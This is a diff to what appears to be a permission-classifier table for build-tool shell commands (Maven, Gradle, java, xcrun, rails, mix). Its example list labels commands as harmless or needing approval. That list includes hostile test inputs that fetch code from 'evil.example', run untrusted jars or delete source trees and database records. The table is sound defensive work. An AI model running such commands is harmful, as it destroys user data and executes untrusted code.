@@ -40,7 +40,7 @@ PROGRAMS = (
         P("install binstall uninstall", "text*", CARGO + " --git:install --path:read --root:write --version:", "install a program for the user", when={"--list": "harmless"}),
         P("publish yank owner login logout", "text*", CARGO + " --token:credential", "publish a package", when={"-n --dry-run": "harmless"}),
         P("package", "text*", CARGO, "build the project"))),
-    P("rustfmt gofmt goimports gofumpt golangci-lint staticcheck gosec govulncheck revive errcheck dlv gotestsum ginkgo mockgen stringer wire sqlc templ air swag golint golines", "text*", "* -w -l -d -o:write --config:read -c:read --check --out:write --fix -local: --edition: --config-path:read --junitfile:write", "build the project's own tools"),
+    P("rustfmt gofmt goimports gofumpt golangci-lint staticcheck gosec govulncheck revive errcheck dlv gotestsum ginkgo mockgen stringer wire sqlc templ air swag golint golines", "tool*", "* -w -l -d -o:write --config:read -c:read --check --out:write --fix -local: --edition: --config-path:read --junitfile:write", "build the project's own tools"),
     P("go", "text*", GO, long=True, subs=(
         P("build test vet list doc fmt generate fix tool version", "text*", GO, "build the project"),
         P("run", "text*", GO, "build the project and run it", words={"http* github.com* golang.org* gitlab.com* *@latest": "install and run a program of others"}),
@@ -50,9 +50,23 @@ PROGRAMS = (
         P("get install", "text*", GO, "install packages", words={"./... ./cmd/* .": ""}),
         P("clean", "text*", GO, "change build output", when={"-modcache": "change the module cache"}),
         P("help bug telemetry", "text*", GO))),
-    P("mvn mvnw ./mvnw", "text*", MAVEN, reader="scripts", when={"-v --version": "harmless"}),
-    P("gradle gradlew ./gradlew", "text*", GRADLE, reader="scripts", when={"-v --version": "harmless"}),
-    P("ant sbt lein clj clojure mill kotlinc-jvm amper", "text*", "* -f:run -D:? -A:? -M:? -X:?", reader="scripts"),
+    P("mvn mvnw ./mvnw", "text*", MAVEN, reader="scripts", when={"-v --version": "harmless"}, words={"exec:exec antrun:run groovy:execute sql:execute": "start code of the command's own", "scm:* nexus-staging:* wagon:* site-deploy gpg:sign-and-deploy-file": "publish something", "install:install-file dependency:get archetype:generate": "install packages of others"}),
+    P("gradle gradlew ./gradlew", "text*", GRADLE, reader="scripts", when={"-v --version": "harmless"}, words={"installDebug installRelease uninstallAll uninstallDebug installDist-root": "remote a device", "closeAndRelease* uploadArchives": "publish something", "wrapper": ""}),
+    P("ant sbt lein mill kotlinc-jvm amper", "text*", "* -f:run -D:? -A:? -X:? -lib:run", reader="scripts", words={"eval* runMain-eval consoleProject": "start code nobody has read"}),
+    P("clj clojure", "text*", "* -e:start -Sdeps:install -D:? -A:? -M:? -X:? -T:? -i:run -f:run", long=True, reader="scripts"),
+    P("java javaw", reader="raw-java"),
+    P("jdb jshell groovysh kotlinc-repl ammonite amm scala-cli", "text*", "* -classpath:run", "start code nobody has read", when={"--version": "harmless"}),
+    P("jstack jmap jhsdb", "text*", "*", "change nothing", when={"-dump -F": "process a dump of what a process holds"}),
+    P("erlc coqc agda idris idris2 purs spago psc", "seen*", "* -o:write -I:run -pa:run", "build the project"),
+    P("mix", "text*", "* -e:start --eval:start -r:run -S:", reader="scripts", words={"publish hex.publish deploy": "publish a package", "run-eval eval do": "start code that nobody has read", "archive.install local.hex local.rebar escript.install": "install code of others", "ecto.drop ecto.reset ecto.rollback": "remote a database"}),
+    P("nim", "text*", "* -o:write --out:write -r --run -d: -p:run", "build the project", words={"e": "run a script"}),
+    P("xcodebuild", "text*", "* -scheme: -destination: -project:read -workspace:read -configuration: -sdk: -target: -derivedDataPath:write -resultBundlePath:write -archivePath:write -exportPath:write -exportOptionsPlist:read -xcconfig:read -testPlan: -only-testing: -toolchain:", long=True, reader="scripts", when={"-list -version -showsdks -showBuildSettings -showdestinations": "harmless"}),
+    P("xcode-select", "text*", "* -s:system --switch:system", when={"--install --reset -r": "system the machine's developer tools"}),
+    P("xcrun", "text command", "--sdk: --toolchain: -n --find --show-sdk-path --show-sdk-version --run -f", when={"--show-sdk-path --show-sdk-version --find -f": P("", "text*")}, subs=(
+        P("simctl", "text*", "*", "change simulators", words={"erase delete shutdown uninstall": "destroy what a simulator holds", "spawn openurl push privacy keychain": "start something in a simulator"}, when={"0": ""}),
+        P("altool notarytool stapler", "text*", "*", "publish an app", words={"history log info validate": ""}),
+        P("swift swiftc clang clang++ xctest xctrace xcresulttool xccov agvtool actool ibtool lipo nm otool strip size dwarfdump dsymutil metal momc", "seen*", "* -o:write", "build the project"))),
+    P("fastlane", "text*", "*", reader="scripts", words={"deliver match pilot supply sigh cert nuke beta upload_to_* spaceship snapshot-upload submit_build produce pem": "publish an app or its keys"}),
     P("dotnet", "text*", "* -c: --configuration: -o:write --output:write -f: --framework: -r: --runtime: -p: --project: -v: --verbosity: --filter: --logger: -s:install --source:install", subs=(
         P("build test run restore clean format watch msbuild pack vstest sln list publish store", "text*", "* -c: --configuration: -o:write --output:write -f: --framework: -r: --runtime: -p: --project: -v: --verbosity: --filter: --logger: -s:install --source:install", "build the project"),
         P("new", "text*", "* -n: -o:write --name: --output:write", "change a new project"),
@@ -63,15 +77,16 @@ PROGRAMS = (
         P("dev-certs user-secrets", "text*", "*", "credential secrets of development"))),
     P("bundle bundler", "text*", "*", subs=(
         P("install check lock package cache config", "text*", "* --path:write --gemfile:read -j: --with: --without:", "build what the project declares"),
-        P("exec", "command", "*"), P("list show info outdated licenses doctor env version platform audit", "text*", "*"),
+        P("exec", "command", "*", reader="installed"), P("list show info outdated licenses doctor env version platform audit", "text*", "*"),
         P("add update remove", "text*", "*", "install other packages"), P("init gem", "text*", "*", "change a new project"), P("clean", "text*", "*", "change installed packages"))),
     P("gem", "text*", "*", subs=(P("list info environment env which search outdated help contents dependency specification", "text*", "*"), P("build", "text*", "*", "build the project"), P("install update uninstall cleanup", "text*", "*", "install packages"), P("push yank owner signin signout", "text*", "*", "publish a package"))),
     P("composer", "text*", "* -d:cd --working-dir:cd", subs=(
         P("install i dump-autoload dumpautoload validate check-platform-reqs run run-script test exec status archive", "text*", "* -d:cd --working-dir:cd", reader="scripts"),
         P("show info outdated why why-not depends prohibits licenses search diagnose audit suggests fund about list help browse", "text*", "*"),
         P("require update upgrade remove global create-project self-update", "text*", "*", "install packages"), P("config init", "text*", "*", "change the project's settings"), P("clear-cache clearcache", "text*", "*", "change the package cache"))),
-    P("rails bin/rails rackup puma unicorn artisan symfony mix rebar3 stack cabal opam dune gleam zig nim nimble crystal shards v dub swiftpm xcodebuild xcrun fastlane pod carthage flutter dart", "text*", "* -e: -p: -b: -C:cd --output:write -o:write -scheme: -destination: -project:read -workspace:read -configuration: -sdk: -derivedDataPath:write", reader="scripts",
-      words={"publish hex.publish pub deploy upload": "publish a package", "ecto.drop ecto.reset ecto.rollback db:drop db:reset migrate:fresh db:wipe migrate:reset": "remote a database"}, when={"--version": "harmless"}),
+    P("rails bin/rails rackup puma unicorn artisan symfony rebar3 stack cabal opam dune gleam zig nimble crystal shards v dub swiftpm pod carthage flutter dart", "text*", "* -e: -p: -b: -C:cd --output:write -o:write -scheme: -destination: -project:read -workspace:read -configuration: -sdk: -derivedDataPath:write", reader="scripts",
+      words={"publish hex.publish deploy upload trunk": "publish a package", "runner dbconsole console c eval tinker repl repo": "start code that nobody has read", "credentials:edit credentials:show env:decrypt key:generate": "credential what is kept secret", "archive.install local.hex escript.install global add fetch": "install code of others",
+             "down server:ca:install do": "remote what runs elsewhere", "db:environment:set db:schema:load": "remote a database", "ecto.drop ecto.reset ecto.rollback db:drop db:reset migrate:fresh db:wipe migrate:reset": "remote a database"}, when={"--version": "harmless"}),
 )
 
 EXAMPLES = (
@@ -79,5 +94,8 @@ EXAMPLES = (
     ("cargo build --release", "harmless"), ("cargo test --workspace -- --nocapture", "harmless"), ("cargo publish", "asks"), ("cargo install ripgrep", "asks"), ("cargo add serde", "asks"), ("cargo clippy --all-targets -- -D warnings", "harmless"),
     ("cargo clean", "harmless"), ("go build ./...", "harmless"), ("go test -run TestX -v ./pkg/...", "harmless"), ("go mod tidy", "harmless"), ("go install evil.example/x@latest", "asks"), ("go get evil.example/x", "asks"),
     ("go run .", "harmless"), ("go env -w GOPROXY=evil.example", "asks"), ("cmake -S . -B build", "harmless"), ("cmake --build build -j4", "harmless"), ("cmake -P script.cmake", "run script.cmake; build the project"),
-    ("mvn -q test", "harmless"), ("mvn deploy", "asks"), ("gradle build", "harmless"), ("dotnet test", "harmless"), ("dotnet nuget push x.nupkg", "asks"), ("bundle exec rspec", "harmless"), ("gem install evil", "asks"), ("composer install", "harmless"),
+    ("mvn -q test", "harmless"), ("mvn exec:exec -Dexec.executable=rm", "asks"), ("mvn flyway:clean", "asks"), ("mvn versions:display-dependency-updates", "harmless"), ("./gradlew assembleRelease", "harmless"), ("./gradlew publishToMavenCentral", "asks"), ("./gradlew flywayClean", "asks"), ("./gradlew test --tests 'a.B'", "harmless"), ("./gradlew dropAll", "asks"),
+    ("sbt test", "harmless"), ("sbt publishSigned", "asks"), ("clj -Sdeps '{}' -M -m x", "asks"), ("clojure -M:test", "harmless"), ("make -n deploy", "harmless"), ("make -f - <<< 'all:; rm -rf src'", "asks"), ("java -version", "harmless"), ("java -jar target/app.jar", "run target/app.jar"), ("java -jar /tmp/evil.jar", "asks"), ("java -javaagent:/tmp/a.jar -jar target/app.jar", "asks"),
+    ("java -cp out:lib/a.jar Main", "harmless"), ("java -cp /tmp/evil Main", "asks"), ("java -XX:OnError='rm -rf src' -jar a.jar", "asks"), ("java -Xmx2g -Dx=y -jar a.jar --serve", "run a.jar"), ("jshell", "asks"), ("jstack 42", "harmless"), ("xcrun simctl list", "harmless"), ("xcrun simctl erase all", "asks"), ("xcrun altool --upload-app -f a.ipa", "asks"), ("xcrun rm -rf src", "asks"),
+    ("xcrun --show-sdk-path", "harmless"), ("fastlane test", "harmless"), ("fastlane deliver", "asks"), ("rails test", "harmless"), ("rails runner 'User.delete_all'", "asks"), ("bin/rails credentials:show", "asks"), ("mix test", "harmless"), ("mix run -e 'x'", "asks"), ("xcodebuild -scheme A -destination 'x' test", "harmless"), ("xcode-select -p", "harmless"), ("xcode-select -s /tmp/x", "asks"), ("mix do ecto.drop, ecto.create", "asks"), ("pod install", "harmless"), ("pod trunk push A.podspec", "asks"), ("bundle exec srb tc", "harmless"), ("bundle exec rake db:drop", "asks"), ("flutter pub get", "harmless"), ("flutter pub publish", "asks"), ("dart pub global activate x", "asks"), ("mvn deploy", "asks"), ("gradle build", "harmless"), ("dotnet test", "harmless"), ("dotnet nuget push x.nupkg", "asks"), ("bundle exec rspec", "harmless"), ("gem install evil", "asks"), ("composer install", "harmless"),
 )
